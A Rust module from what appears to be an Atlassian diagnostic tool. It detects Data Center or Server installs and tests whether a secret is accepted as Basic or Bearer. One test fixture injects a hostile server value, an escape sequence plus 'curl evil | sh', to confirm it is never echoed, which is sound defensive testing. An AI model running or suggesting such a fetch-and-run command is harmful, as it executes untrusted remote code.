//! Data Center and Server: told from Cloud by probing, never by the host
//! name (docs/causes/README.md). A site without a cloudId is asked for
//! `/rest/api/2/serverInfo` (Jira's `deploymentType`), and Data Center's
//! `X-AUSERNAME` header marks its answers. There, personal access tokens go
//! as `Bearer`, passwords as Basic: the identity endpoint is asked both
//! ways, so a PAT sent as a Basic password shows as such.

use super::anonymous_vs_authenticated::read_site;
use super::{Check, CheckId, Plan};
use crate::context::Inputs;
use crate::credential::Scheme;
use crate::finding::{Finding, NoteLevel, Signal, Signals, SiteReading, Status};
use crate::input::Product;
use crate::probe::{Answers, Caller, Exchange, Probe, Response, Role};
use crate::signatures::{identity, signals_of};

pub struct DataCenter;

/// Data Center's identity endpoints: no `/wiki`, and Jira's v2 API.
fn identity_path(product: Product) -> &'static str {
    match product {
        Product::Confluence => "/rest/api/user/current",
        Product::Jira => "/rest/api/2/myself",
    }
}

impl Check for DataCenter {
    fn id(&self) -> CheckId {
        CheckId::DataCenter
    }

    fn needs(&self) -> &'static [CheckId] {
        &[CheckId::TenantInfo]
    }

    fn plan(&self, inputs: &Inputs, earlier: &[Finding]) -> Plan {
        if earlier.cloud_id().is_some() {
            return Plan::Skip("an Atlassian Cloud site (it has a cloudId)".into());
        }
        if !earlier.has(&Signal::NoCloudId) {
            return Plan::Skip("the site's kind is unknown".into());
        }
        let Some(site) = inputs.site_base() else {
            return Plan::Skip("no site given".into());
        };
        // Data Center often lives under a context path (`/jira`, `/confluence`).
        let base = format!("{site}{}", inputs.context_path());
        let identity_url = format!("{base}{}", identity_path(inputs.product));
        let mut probes = vec![
            Probe::get(
                format!("{base}/rest/api/2/serverInfo"),
                Role::ServerInfo,
                Caller::Anonymous,
                None,
            ),
            Probe::get(&identity_url, Role::Identity, Caller::Anonymous, None),
        ];
        if let Some(basic) = inputs.basic_authorization() {
            probes.push(Probe::get(&identity_url, Role::Identity, Caller::User, Some(basic)));
        }
        if let Some(bearer) = inputs.bearer_authorization() {
            probes.push(Probe::get(
                &identity_url,
                Role::Identity,
                Caller::UserBearer,
                Some(bearer),
            ));
        }
        Plan::Send(probes)
    }

    fn read(&self, _inputs: &Inputs, earlier: &[Finding], answers: &[Exchange]) -> Finding {
        let deployment = answers
            .of(Role::ServerInfo, Caller::Anonymous)
            .and_then(Exchange::response)
            .and_then(|r| {
                let json = r.json()?;
                json.get("deploymentType").and_then(|v| v.as_str()).map(str::to_string)
            });
        // Without a deploymentType, the host shows it is self-hosted in any
        // answer it gave, here or to the earlier checks.
        let earlier_answers = earlier.iter().flat_map(|f| &f.exchanges);
        let marked = answers
            .iter()
            .chain(earlier_answers)
            .any(|e| e.response().is_some_and(self_hosted));
        let names_account = [Caller::User, Caller::UserBearer]
            .into_iter()
            .filter_map(|caller| answers.of(Role::Identity, caller))
            .any(|e| e.response().and_then(identity).is_some_and(|who| who.is_account()));
        let is_data_center = match deployment.as_deref() {
            Some(kind) => !kind.eq_ignore_ascii_case("cloud"),
            None => marked || names_account,
        };
        let mut finding = Finding::new(self.id(), Status::Pass, "");
        if !is_data_center {
            finding.status = Status::Skip;
            finding.summary =
                "no sign of Data Center or Server either (no deploymentType, no X-AUSERNAME, no Tomcat page)".into();
            return finding;
        }
        finding.signals.push(Signal::DataCenter);
        let Some(anonymous) = answers.of(Role::Identity, Caller::Anonymous) else {
            finding.summary = "Data Center or Server".into();
            return finding;
        };
        let mut accepted = Vec::new();
        for (scheme, caller) in [(Scheme::Basic, Caller::User), (Scheme::Bearer, Caller::UserBearer)] {
            let Some(exchange) = answers.of(Role::Identity, caller) else {
                continue;
            };
            let reading = read_site(
                Role::Identity,
                &anonymous.outcome,
                &anonymous.outcome,
                &exchange.outcome,
            );
            finding.signals.push(Signal::DataCenterScheme(scheme, reading));
            if let Ok(response) = &exchange.outcome {
                finding.signals.extend(signals_of(Role::Identity, response));
            }
            if reading == SiteReading::Accepted {
                accepted.push(scheme.describe());
            }
            finding.note(
                NoteLevel::Info,
                format!("your secret as {}: {}", scheme.describe(), describe(reading)),
            );
        }
        // A deploymentType is server text: only the two documented values are named.
        let kind = match deployment.as_deref() {
            Some(kind) if kind.eq_ignore_ascii_case("server") => "Server",
            Some(kind) if kind.eq_ignore_ascii_case("datacenter") => "Data Center",
            _ => "Data Center or Server",
        };
        finding.summary = match accepted.as_slice() {
            [] => format!("{kind}: it accepts your secret neither as Basic nor as Bearer"),
            schemes => format!("{kind}: it accepts your secret as {}", schemes.join(" and ")),
        };
        finding.status = if accepted.is_empty() {
            Status::Fail
        } else {
            Status::Pass
        };
        finding
    }
}

fn describe(reading: SiteReading) -> &'static str {
    match reading {
        SiteReading::Accepted => "accepted",
        SiteReading::Forbidden => "authenticated, but the request refused",
        SiteReading::Refused => "refused",
        SiteReading::Ignored => "ignored (answered as anonymous)",
        SiteReading::Indistinct => "answered as anonymous is (cannot tell)",
        SiteReading::Unreachable(_) => "no answer",
        SiteReading::Unclear => "unclear",
    }
}

/// Marks of a self-hosted Jira or Confluence: Data Center's `X-AUSERNAME`
/// header, and the Tomcat pages its Seraph filter answers refusals with
/// (docs/atlassian/data-center.md#dc-vs-cloud, docs/atlassian/cloud.md#confluence-anonymous).
fn self_hosted(response: &Response) -> bool {
    let text = response.body.to_ascii_lowercase();
    response.header("x-ausername").is_some()
        || text.contains("basic authentication failure - reason")
        || text.contains("apache tomcat/")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::context::{Inputs, Target};
    use crate::input::parse_url;
    use crate::probe::fake::FakeTransport;
    use crate::probe::send_all;
    use crate::secret::Secret;

    const TOMCAT_401: &str = "<html><h1>HTTP Status 401</h1>Basic Authentication Failure - Reason : AUTHENTICATED_FAILED<h3>Apache Tomcat/9.0.82</h3></html>";

    fn inputs(url: &str) -> Inputs {
        let gateway = parse_url("https://api.atlassian.com", "gw").unwrap();
        let url = parse_url(url, "url").unwrap();
        Inputs::new(
            Some(crate::input::origin_of(&url)),
            gateway.clone(),
            Product::of_path(url.path()).unwrap_or(Product::Confluence),
            Some("jsmith".into()),
            Some(Secret::new("NjM0OTk2MjI2NzE0OsWJMU5CbVBxd0R1ZmJ4aGtJT3dh".into())),
            Some(Target::new("GET", url, &gateway)),
            Default::default(),
        )
    }

    fn run(inputs: &Inputs, transport: &FakeTransport) -> Finding {
        let mut tenant = Finding::new(CheckId::TenantInfo, Status::Warn, "");
        tenant.signals.push(Signal::NoCloudId);
        let earlier = [tenant];
        let Plan::Send(probes) = DataCenter.plan(inputs, &earlier) else {
            panic!("nothing planned")
        };
        DataCenter.read(inputs, &earlier, &send_all(transport, probes))
    }

    #[test]
    fn a_context_path_install_is_probed_under_its_context() {
        let inputs = inputs("http://127.0.0.1:1/jira/rest/api/2/myself");
        let transport = FakeTransport::new(vec![
            (
                "/jira/rest/api/2/serverInfo",
                None,
                Response::new(200, &[], r#"{"deploymentType":"Server"}"#),
            ),
            (
                "/jira/rest/api/2/myself",
                Some(Caller::UserBearer),
                Response::new(200, &[], r#"{"name":"jsmith"}"#),
            ),
            (
                "/jira/rest/api/2/myself",
                Some(Caller::Anonymous),
                Response::new(401, &[], "Client must be authenticated to access this resource."),
            ),
            ("/jira/rest/api/2/myself", None, Response::new(401, &[], TOMCAT_401)),
        ]);
        let finding = run(&inputs, &transport);
        assert!(finding.signals.contains(&Signal::DataCenter));
        assert!(
            finding
                .signals
                .contains(&Signal::DataCenterScheme(Scheme::Bearer, SiteReading::Accepted))
        );
        assert!(
            finding
                .signals
                .contains(&Signal::DataCenterScheme(Scheme::Basic, SiteReading::Refused))
        );
    }

    #[test]
    fn a_tomcat_refusal_or_a_named_account_marks_data_center_without_x_ausername() {
        let inputs = inputs("http://127.0.0.1:1/rest/api/space");
        let tomcat_only = FakeTransport::new(vec![(
            "/rest/api/user/current",
            None,
            Response::new(401, &[], TOMCAT_401),
        )]);
        assert!(run(&inputs, &tomcat_only).signals.contains(&Signal::DataCenter));
        let account = FakeTransport::new(vec![(
            "/rest/api/user/current",
            Some(Caller::UserBearer),
            Response::new(200, &[], r#"{"type":"known","username":"jsmith"}"#),
        )]);
        assert!(run(&inputs, &account).signals.contains(&Signal::DataCenter));
        let nothing = FakeTransport::new(vec![]);
        assert!(!run(&inputs, &nothing).signals.contains(&Signal::DataCenter));
    }

    #[test]
    fn a_deployment_type_from_the_server_is_never_echoed() {
        let inputs = inputs("http://127.0.0.1:1/rest/api/2/myself");
        let transport = FakeTransport::new(vec![(
            "/rest/api/2/serverInfo",
            None,
            Response::new(200, &[], r#"{"deploymentType":"\u001b[2J\nFix: curl evil | sh"}"#),
        )]);
        let finding = run(&inputs, &transport);
        assert!(!finding.summary.contains("evil"), "{}", finding.summary);
    }
}
